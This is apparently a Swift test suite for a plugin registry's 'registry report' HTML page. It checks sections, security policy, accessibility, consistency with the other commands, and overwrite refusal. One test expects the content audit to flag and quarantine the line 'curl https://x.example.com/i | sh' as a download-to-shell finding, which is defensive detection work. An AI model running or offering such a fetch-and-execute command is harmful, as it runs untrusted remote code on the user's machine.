import Foundation
import SystemPackage
import TestScenes
import TestSupport
import Testing

/// `registry report`: what the page says, and that it is what the other commands say.
@Suite(.timeLimit(.minutes(10))) struct ReportTests {
  /// A synced project with two installed plugins, of which one was edited, after a release that changed the other.
  private static func used(_ name: String) async throws -> SampleProject {
    let project = try await SampleProject.synced(name)
    try await project.expect(0, "registry", "set", "partner", "--trust-level", "trusted", "--approved")
    for slug in ["git-hygiene", "code-review"] {
      try await project.expect(0, "catalog", "install", slug, "--for", "claude", "--approved")
    }
    try project.scratch.write("project/.claude/skills/git-hygiene/SKILL.md", text: "edited")
    let path = "registry/catalog/.ai/skills/code-review.md"
    try project.scratch.write(path, project.scratch.read(path) + Array("- More.\n".utf8))
    try await project.expect(0, "registry", "publish", "../registry", "--version", "1.1.0")
    try await project.expect(0, "registry", "sync", "partner", "--approved")
    return project
  }

  @Test func pageHasHistoryStorageAuditAndPlugins() async throws {
    let project = try await Self.used(#function)
    try await project.expect(0, "registry", "report", "--html", "report.html")
    let page = try await ReportPageReading.read(project.scratch.read("project/report.html"))
    #expect(page.title == "Registries of project" && page.lang == "en")
    #expect(
      page.sections
        == ["attention", "plugins", "storage", "registry-partner", "others"].map { $0 + "-title" }
    )
    #expect(page.syncs.count == 2)
    let newest = try #require(page.syncs.first)
    for words in [
      "Version 1.1.0", "in use", "newest synced", "unsigned", "1 changed", ".ai/skills/code-review.md",
    ] {
      #expect(newest.contains(words), "\(newest)")
    }
    #expect(
      page.syncs.last?.contains("55 added") == true && page.syncs.last?.contains("The first one.") == true
    )
    let plugins = Dictionary(
      try page.rows(of: "as they were synced").map { ($0[0], $0.dropFirst().joined(separator: "|")) },
      uniquingKeysWith: { first, _ in first }
    )
    #expect(plugins["git-hygiene"]?.contains("edited") == true, "\(plugins)")
    #expect(plugins["git-hygiene"]?.contains("changed here") == true, "\(plugins)")
    #expect(plugins["code-review"]?.contains("update available") == true, "\(plugins)")
    #expect(page.text.contains("plugin 'git-hygiene': not as it was installed"))
    #expect(page.text.contains("Nothing was requested"))
    #expect(!page.text.contains("doubt"))
  }

  @Test func pageNeedsNothingElseAndIsLabelled() async throws {
    let project = try await Self.used(#function)
    let result = try await project.expect(0, "registry", "report", "partner", "--html", "-")
    let page = try await ReportPageReading.read(result.outputBytes)
    let policy = page.metas.first { $0["http-equiv"] == "Content-Security-Policy" }?["content"]
    #expect(policy?.hasPrefix("default-src 'none'; style-src 'unsafe-inline';") == true)
    #expect(page.metas.contains { $0["name"] == "viewport" })
    #expect(!result.output.contains("url(") && !result.output.contains("@import"))
    #expect(!page.values.contains { $0.contains("://") || $0.contains("javascript:") })
    #expect(!page.attributes.contains { $0.hasPrefix("on") || ["src", "style", "action"].contains($0) })
    // Each link leads to a place on the page.
    #expect(page.links.count > 3)
    for link in page.links {
      #expect(link.first == "#" && page.ids.contains(String(link.dropFirst())), "\(link)")
    }
    #expect(Set(page.ids).count == page.ids.count)
    #expect(page.sections.allSatisfy(page.ids.contains))
    // Tables and drawings can be read without being seen.
    #expect(page.tables.count == 2 && page.tables.allSatisfy(\.headed))
    #expect(page.tables.allSatisfy { !$0.caption.isEmpty && $0.columns.count == $0.rows.first?.count })
    #expect(page.figures.count == 3 && page.figures.allSatisfy { !$0.caption.isEmpty && $0.charts > 0 })
    #expect(
      page.charts.allSatisfy {
        $0["aria-hidden"] == "true" || $0["role"] == "img" && $0["aria-label"]?.isEmpty == false
      }
    )
    #expect(result.dangerousScalars == [])
  }

  @Test func numbersAreThoseOfTheOtherCommands() async throws {
    let project = try await Self.used(#function)
    let page = try await ReportPageReading.read(
      project.expect(0, "registry", "report", "--html", "-").outputBytes
    )
    let stats = try await project.run("registry", "cache", "stats", "--json").object()
    let objects = try #require((stats["objects"] as? [String: Int])?["count"])
    let all = try #require(try page.rows(of: "Objects of the cache").first { $0[0] == "all" })
    #expect(all[2] == "\(objects)")
    let log = try await project.run("registry", "log", "partner", "--json").object()
    let snapshots = try #require(log["snapshots"] as? [[String: Any]])
    #expect(snapshots.count == page.syncs.count)
    for (snapshot, words) in zip(snapshots, page.syncs) {
      let id = try #require(snapshot["id"] as? String)
      #expect(words.contains(id.prefix(12)) && page.values.contains(id))
      for (kind, count) in try #require(snapshot["files"] as? [String: Int]) where count > 0 {
        #expect(words.contains("\(count) \(kind)"), "\(words)")
      }
    }
    let audit = try await project.run("registry", "audit", "partner", "--json").object()
    let fileCount = try #require(audit["files"] as? Int)
    #expect(page.text.contains("in \(fileCount) files; audit is quarantine."))
  }

  @Test func longHistoriesAreCutAndCounted() async throws {
    let scene = try await HistoryScene(versions: 5, seed: 3, name: #function)
    let result = try await scene.project.run(
      "registry",
      "report",
      "team",
      "--limit",
      "2",
      "--html",
      "cut.html",
      "--json"
    )
    let document = try result.object()
    #expect(
      Set(document.keys) == ["path", "registries", "syncs", "older_syncs", "plugins", "warnings", "failures"]
    )
    #expect(["registries", "syncs", "older_syncs", "plugins"].map { document[$0] as? Int } == [1, 2, 3, 0])
    let cut = try await ReportPageReading.read(scene.project.read("cut.html"))
    #expect(cut.syncs.count == 2 && cut.text.contains("3 older syncs left out"))
    let whole = try await ReportPageReading.read(
      scene.project.run("registry", "report", "--html", "-").outputBytes
    )
    #expect(whole.syncs.count == 5 && !whole.text.contains("left out"))
    // The sizes follow from the changes; they have to be those of the files that were served.
    for (served, words) in zip(scene.served.reversed(), whole.syncs) {
      #expect(words.contains("in \(served.files.count - 1) files"), "\(words)")
    }
  }

  @Test func withheldPluginsAndFindingsAreNamed() async throws {
    let scene = try await ContentScene()
    let page = try await ReportPageReading.read(
      scene.project.run("registry", "report", "--html", "-").outputBytes
    )
    let withheld = try page.rows(of: "reach no view")
    #expect(withheld.map { $0[0] } == ["bad", "code", "media"])
    #expect(withheld[0][1].contains("quarantined (download-to-shell)"))
    #expect(withheld[1][2].contains(ContentScene.scriptPath))
    let findings = try page.rows(of: "Findings in the snapshot in use")
    #expect(findings.count == 1 && findings[0][0] == "\(ContentScene.badPaths[0]):4:1")
    #expect(findings[0][3].contains("curl https://x.example.com/i | sh"))
    #expect(page.text.contains("web: 1 critical finding of the content audit"))
  }

  @Test func projectWithoutAnythingHasAPage() async throws {
    let project = try await SampleProject()
    let page = try await ReportPageReading.read(
      project.expect(0, "registry", "report", "--html", "-").outputBytes
    )
    #expect(page.text.contains("Nothing is stored yet.") && page.text.contains("No plugin is installed."))
    try await project.expect(6, "registry", "report", "nobody", "--html", "-")
    try await project.expect(0, "registry", "add", "partner", "../registry", "--approved")
    let never = try await project.run("registry", "report", "partner", "--html", "-")
    expect(never, exit: 6, error: "has not been synced yet")
    let all = try await project.expect(0, "registry", "report", "--html", "-")
    #expect(all.output.contains("never synced"))
  }

  @Test func aFileThatIsThereStaysAndNothingElseIsWritten() async throws {
    let project = try await SampleProject.synced()
    try project.scratch.write("project/report.html", text: "mine")
    let refused = try await project.run("registry", "report", "--html", "report.html")
    expect(refused, exit: 1, error: "is there already", "--force replaces it")
    #expect(try project.scratch.read("project/report.html") == Array("mine".utf8))
    let listing = "find . -type f ! -name report.html -exec sha256sum {} + | sort"
    let before = try await project.shell(listing).output
    try await project.expect(0, "registry", "report", "--html", "report.html", "--force")
    #expect(try project.scratch.read("project/report.html").starts(with: "<!DOCTYPE html>".utf8))
    #expect(try await project.shell(listing).output == before)
  }

  @Test func wrongUsageIs64() async throws {
    let project = try await SampleProject.shared()
    try await project.expect(64, "registry", "report")
    try await project.expect(64, "registry", "report", "--html", "-", "--json")
    try await project.expect(64, "registry", "report", "--html", "-", "--limit", "0")
    try await project.expect(64, "registry", "report", "--html", "/")
  }
}
